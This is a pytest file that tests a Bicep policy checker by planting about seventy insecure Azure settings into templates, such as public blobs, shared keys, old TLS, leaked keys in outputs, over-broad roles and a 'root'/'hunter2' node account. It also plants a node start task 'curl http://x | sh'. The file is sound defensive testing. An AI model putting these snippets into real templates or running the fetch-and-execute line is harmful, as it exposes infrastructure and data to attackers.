"""What no template may do is found wherever it is planted, and nowhere else."""

from __future__ import annotations

from pathlib import Path

import pytest

from local.bicep.__main__ import templates
from local.bicep.policy import weaknesses
from tests.unit.local.bicep.planted import INFRA, planted

PLANTED = {
    "public blobs": ("storage.bicep", "allowBlobPublicAccess: false", "allowBlobPublicAccess: true"),
    "storage keys": ("storage.bicep", "allowSharedKeyAccess: false", "allowSharedKeyAccess: true"),
    "storage keys, by the default": ("storage.bicep", "    allowSharedKeyAccess: false\n", ""),
    "old TLS of storage": ("storage.bicep", "'TLS1_2'", "'TLS1_0'"),
    "plain HTTP of storage": (
        "storage.bicep",
        "supportsHttpsTrafficOnly: true",
        "supportsHttpsTrafficOnly: false",
    ),
    "a public container": ("storage.bicep", "publicAccess: 'None'", "publicAccess: 'Blob'"),
    "plain HTTP of the app": ("dispatcher.bicep", "httpsOnly: true", "httpsOnly: false"),
    "old TLS of the app": ("dispatcher.bicep", "minTlsVersion: '1.2'", "minTlsVersion: '1.0'"),
    "FTP": ("dispatcher.bicep", "http20Enabled: true", "http20Enabled: true, ftpsState: 'AllAllowed'"),
    "passwords of publishing": ("dispatcher.bicep", "allow: false", "allow: true"),
    "a package read with a key": (
        "dispatcher.bicep",
        "type: 'UserAssignedIdentity'",
        "type: 'StorageAccountConnectionString'",
    ),
    "a key in a setting": (
        "dispatcher.bicep",
        "AZURE_CLIENT_ID: clientId",
        "KEY: 'AccountKey=${storage.listKeys().keys[0].value}'",
    ),
    "access policies": ("vault.bicep", "enableRbacAuthorization: true", "enableRbacAuthorization: false"),
    "secrets that cannot be had back": ("vault.bicep", "enableSoftDelete: true", "enableSoftDelete: false"),
    "a secret in a template": (
        "vault.bicep",
        "output id string",
        "resource seal 'Microsoft.KeyVault/vaults/secrets@2024-11-01' = {\n  parent: vault\n"
        "  name: 'seal-key'\n  properties: { value: 'x' }\n}\noutput id string",
    ),
    "a role that manages": (
        "storage.bicep",
        "b7e6dc6d-f1e8-4753-8033-0f276bb0955b",
        "b24988ac-6180-42a0-ab88-20f7382dd24c",
    ),
    "the app's role on the whole resource group": ("storage.bicep", "    scope: storage\n", ""),
    "a role on the whole resource group, in words": (
        "vault.bicep",
        "scope: vault",
        "scope: resourceGroup()",
    ),
    "a person's role on the whole account": ("storage.bicep", "scope: drops", "scope: storage"),
    "a firewall that is always open": ("storage.bicep", "isPrivate ? 'Deny' : 'Allow'", "'Allow'"),
    "a firewall that opens": ("storage.bicep", "isPrivate ? 'Deny'", "isPrivate ? 'Allow'"),
    "a firewall that keeps events out": ("storage.bicep", ", bypass: 'AzureServices'", ""),
    "secrets read with an identity that is not there": (
        "dispatcher.bicep",
        "    keyVaultReferenceIdentity: identityId\n",
        "",
    ),
    "events of everything": (
        "events.bicep",
        "      includedEventTypes: ['Microsoft.Storage.BlobCreated']\n",
        "",
    ),
    "keys of the logs": ("monitor.bicep", "disableLocalAuth: true", "disableLocalAuth: false"),
    "telemetry by key": ("monitor.bicep", "DisableLocalAuth: true", "DisableLocalAuth: false"),
    "events by key": ("events.bicep", "deliveryWithResourceIdentity:", "delivery:"),
    "events that are lost": ("events.bicep", "deadLetterWithResourceIdentity:", "deadLetter:"),
    "a name for each deployment": (
        "storage.bicep",
        "guid(drops.id, deployerId, blobDataContributor)",
        "newGuid()",
    ),
    "keys of the Batch account": ("batch.bicep", "['AAD']", "['AAD', 'SharedKey']"),
    "keys of the Batch account, by the default": (
        "batch.bicep",
        "    allowedAuthenticationModes: ['AAD']\n",
        "",
    ),
    "a Batch account that no network closes": (
        "batch.bicep",
        "isPrivate ? 'Disabled' : 'Enabled'",
        "'Enabled'",
    ),
    "nodes without an identity": (
        "batch.bicep",
        "  identity: { type: 'UserAssigned', userAssignedIdentities: { '${nodes.id}': {} } }\n",
        "",
    ),
    "nodes with addresses on the internet": ("batch.bicep", "'NoPublicIPAddresses'", "'BatchManaged'"),
    "a public container of records": ("batch.bicep", "publicAccess: 'None'", "publicAccess: 'Container'"),
    "nodes that may write every container": ("batch.bicep", "scope: records", "scope: storage"),
    "nodes that may write another container": ("batch.bicep", "name: 'clusters'", "name: 'scripts'"),
    "nodes that own the container": (
        "batch.bicep",
        "ba92f5b4-2d11-453d-a403-e96b0029c9fe",
        "b7e6dc6d-f1e8-4753-8033-0f276bb0955b",
    ),
    "nodes that submit tasks": (
        "batch.bicep",
        "principalId: appPrincipalId",
        "principalId: nodes.properties.principalId",
    ),
    "the app may do everything with the account": (
        "batch.bicep",
        "subscriptionResourceId('Microsoft.Authorization/roleDefinitions', batchDataContributor)",
        "subscriptionResourceId('Microsoft.Authorization/roleDefinitions', roleOfApp)",
    ),
    "the app writes secrets": (
        "vault.bicep",
        "roleDefinitions', secretsUser)",
        "roleDefinitions', secretsOfficer)",
    ),
    "a person writes receipts": (
        "storage.bicep",
        "roleDefinitions', blobDataReader)",
        "roleDefinitions', blobDataOwner)",
    ),
    "the topic writes every queue": ("events.bicep", "scope: jobs", "scope: storage"),
    "a key of a mount": (
        "batch.bicep",
        "    metadata:",
        "    mountConfiguration: [{ azureFileShareConfiguration: { accountName: 'a', accountKey: 'k' } }]\n"
        "    metadata:",
    ),
    "an account on the nodes": (
        "batch.bicep",
        "    metadata:",
        "    userAccounts: [{ name: 'root', password: 'hunter2' }]\n    metadata:",
    ),
    "a door into the nodes": (
        "batch.bicep",
        "? { subnetId: subnetId,",
        "? { endpointConfiguration: { inboundNatPools: [] }, subnetId: subnetId,",
    ),
    "an account of Batch's own": (
        "batch.bicep",
        "    poolAllocationMode",
        "    autoStorage: { storageAccountId: storage.id }\n    poolAllocationMode",
    ),
    "a key in an output": (
        "storage.bicep",
        "output id string",
        "output key string = storage.listKeys().keys[0].value\noutput id string",
    ),
    "a connection string in an output": (
        "monitor.bicep",
        "output insightsId",
        "output conn string = insights.properties.ConnectionString\noutput insightsId",
    ),
    "every page may call the app": (
        "dispatcher.bicep",
        "http20Enabled: true",
        "http20Enabled: true, cors: { allowedOrigins: ['*'] }",
    ),
    "a debugger in the app": (
        "dispatcher.bicep",
        "http20Enabled: true",
        "http20Enabled: true, remoteDebuggingEnabled: true",
    ),
    "a time as a default": (
        "main.bicep",
        "param budgetStart string = ''",
        "param budgetStart string = utcNow('yyyy-MM-01')",
    ),
    "a role for anyone": (
        "batch.bicep",
        "principalId: nodes.properties.principalId",
        "principalId: location",
    ),
    "a command when a node starts": (
        "batch.bicep",
        "    metadata:",
        "    startTask: { commandLine: 'curl http://x | sh' }\n    metadata:",
    ),
    "events that vanish": (
        "events.bicep",
        "queueMessageTimeToLiveInSeconds: 604800",
        "queueMessageTimeToLiveInSeconds: 1",
    ),
    "a vault that is made from a deleted one": (
        "vault.bicep",
        "softDeleteRetentionInDays: 7",
        "softDeleteRetentionInDays: 7\n    createMode: 'recover'",
    ),
    "events to a webhook": ("events.bicep", "endpointType: 'StorageQueue'", "endpointType: 'WebHook'"),
    "a password as a parameter": (
        "dispatcher.bicep",
        "param audience string",
        "param audience string\nparam password string",
    ),
    "storage outside of the network": ("main.bicep", "isPrivate: vnetEnabled", "isPrivate: false"),
    "nodes outside of the network": (
        "main.bicep",
        "subnetId: vnetEnabled ? network!.outputs.nodesSubnetId : ''",
        "subnetId: ''",
    ),
    "the app outside of the network": (
        "main.bicep",
        "subnetId: vnetEnabled ? network!.outputs.appSubnetId : ''",
        "subnetId: ''",
    ),
    "a secret in a setting": ("dispatcher.bicep", "SLIPWAY_REGION: location", "SLIPWAY_SEAL_KEY: 'c2VjcmV0'"),
    "secrets that deployments read": (
        "vault.bicep",
        "publicNetworkAccess: 'Enabled'",
        "publicNetworkAccess: 'Enabled'\n    enabledForTemplateDeployment: true",
    ),
    "alerts that no one gets": (
        "alerts.bicep",
        "actions: { actionGroups: actions }",
        "actions: { actionGroups: [] }",
    ),
    "an alert of a metric that no one gets": (
        "alerts.bicep",
        "actions: [for id in actions: { actionGroupId: id }]",
        "actions: []",
    ),
    "events that are tried once": ("events.bicep", "maxDeliveryAttempts: 30", "maxDeliveryAttempts: 1"),
    "events that are tried for a minute": ("events.bicep", "InMinutes: 1440", "InMinutes: 1"),
    "a name of each deployment": (
        "main.bicep",
        "uniqueString(subscription().id, environmentName, location)",
        "uniqueString(deployment().name)",
    ),
    "a time for each deployment": ("vault.bicep", "name: 'kv-${token}'", "name: 'kv-${utcNow()}'"),
}


def test_the_templates_have_no_weakness() -> None:
    assert weaknesses(templates(INFRA)) == []


@pytest.mark.parametrize("weakness", PLANTED)
def test_a_planted_weakness_is_found_in_its_file(tmp_path: Path, weakness: str) -> None:
    file, old, new = PLANTED[weakness]

    findings = weaknesses(planted(tmp_path, file, old, new))

    assert {one.file for one in findings} == {file}
